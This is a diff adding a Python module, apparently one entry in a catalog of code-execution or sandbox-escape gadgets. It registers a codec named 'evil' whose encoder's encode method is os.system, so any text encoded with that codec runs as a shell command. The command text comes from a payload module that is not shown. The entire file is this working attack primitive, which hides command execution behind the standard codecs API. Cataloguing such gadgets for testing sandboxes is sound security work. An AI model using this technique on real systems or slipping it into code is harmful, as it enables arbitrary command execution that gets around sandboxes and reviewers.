@@ -1,0 +1,25 @@
+"""The encoder of a text file's own codec is a C function."""
+CATEGORY = "callable"
+REACH = "run"
+
+import codecs
+import os
+import types
+
+from . import payload
+
+
+def encoder(errors):
+    return types.SimpleNamespace(encode=os.system, reset=int, setstate=int)
+
+
+def search(name):
+    if name == "evil":
+        return codecs.CodecInfo(None, None, None, None, encoder, None)
+
+
+def attack():
+    codecs.register(search)
+
+
+TEXT = payload.COMMAND
